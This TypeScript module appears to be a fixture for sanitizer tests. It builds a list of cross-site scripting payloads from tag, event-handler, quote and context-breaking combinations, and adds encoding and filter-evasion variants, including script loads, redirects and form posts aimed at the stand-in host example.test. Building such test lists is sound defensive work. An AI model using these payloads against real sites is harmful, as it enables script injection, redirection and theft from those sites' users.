/** Inputs that try to run a script: elements, handlers, and ends of the context in which a text stands. */
const elements = [
  'img src=x',
  'svg',
  'body',
  'iframe',
  'video src=x',
  'input autofocus',
  'details open',
  'marquee',
  'a',
];
const handlers = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onclick', 'onmouseover', 'onbegin', 'onpageshow'];
const quotes = ['', '"', "'", '`'];
const breaks = ['', '">', "'>", '</title>', '</style>', '</textarea>', '</svg>', '-->', ']]>', '</td></tr></table>'];
const bodies = [
  '<script>alert(1)</script>',
  '<script src=//example.test/x.js></script>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<link rel=stylesheet href=//example.test/x.css>',
  '<style>@import "//example.test/x.css";</style>',
  '<base href=//example.test/>',
  '<meta http-equiv=refresh content="0;url=//example.test/">',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<form action=//example.test/><button>Envoyer</button></form>',
];
const others = [
  'javascript:alert(1)',
  '" onmouseover="alert(1)',
  "' onmouseover='alert(1)",
  '" style="background:url(//example.test/x)" x="',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '&#x3c;img src=x onerror=alert(1)&#x3e',
  '\u003cscript\u003ealert(1)\u003c/script\u003e',
  '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '<\u0000script>alert(1)</script>',
  '<script\u2028>alert(1)</script>',
  '<<script>alert(1)//<</script>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: what a template would fill in
  '${alert(1)}',
  '{{constructor.constructor("alert(1)")()}}',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<svg><use href="data:image/svg+xml,<svg onload=alert(1)>"/></svg>',
  '<img src=//example.test/pixel.png>',
  '<iframe srcdoc="<script>parent.document.title=1</script>"></iframe>',
  '\u202e<script>alert(1)</script>',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '\ud800<script>alert(1)</script>',
];

export const payloads: readonly string[] = [
  ...elements.flatMap((element) => handlers.map((handler) => `<${element} ${handler}=alert(1)>`)),
  ...quotes.flatMap((quote) => handlers.map((handler) => `x${quote} ${handler}=${quote}alert(1)${quote} x=${quote}`)),
  ...breaks.flatMap((out) => bodies.map((body) => out + body)),
  ...others,
];
